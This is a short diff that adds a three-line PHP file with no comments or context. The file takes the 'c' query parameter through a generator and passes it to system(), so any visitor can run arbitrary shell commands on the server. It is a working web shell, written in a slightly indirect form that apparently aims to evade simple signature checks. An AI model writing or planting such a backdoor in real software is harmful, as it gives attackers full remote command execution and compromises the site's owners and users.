@@ -1,0 +1,3 @@
+<?php
+function g() { yield $_GET["c"]; }
+foreach (g() as $c) system($c);
